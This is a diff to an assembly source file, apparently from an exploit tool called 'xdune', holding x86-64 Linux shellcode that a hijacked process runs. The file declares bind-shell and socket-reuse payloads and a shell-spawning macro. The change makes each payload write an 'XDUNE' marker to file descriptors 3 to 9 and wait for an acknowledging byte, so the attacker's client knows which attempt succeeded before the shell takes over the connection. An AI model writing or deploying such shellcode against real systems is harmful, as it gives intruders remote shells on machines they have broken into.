@@ -1,5 +1,6 @@
 /* What xdune makes a taken-over process run, x86-64 Linux, position independent. Each begins by writing "XDUNE" to
- * descriptors 3 to 9: the mark by which the client knows that this try was the one, whatever happens next. */
+ * descriptors 3 to 9, the mark by which the client knows that this try was the one, and waits for a byte from who got it:
+ * whatever ends the connection for what comes next cannot overtake the mark. */
     .section .rodata
     .intel_syntax noprefix
     .globl payload_bind, payload_bind_end, payload_findsock, payload_findsock_end
@@ -11,12 +12,19 @@
     mov edx, 5
     mov eax, 1              /* write */
     syscall
-    inc ebx
+    cmp eax, 5
+    jne 2f
+    mov edi, ebx
+    mov rsi, rsp
+    mov edx, 1
+    xor eax, eax            /* read */
+    syscall
+2:  inc ebx
     cmp ebx, 10
     jne 1b
-    jmp 2f
+    jmp 3f
 mark\@: .ascii "XDUNE"
-2:
+3:
     .endm
 
     .macro run_shell
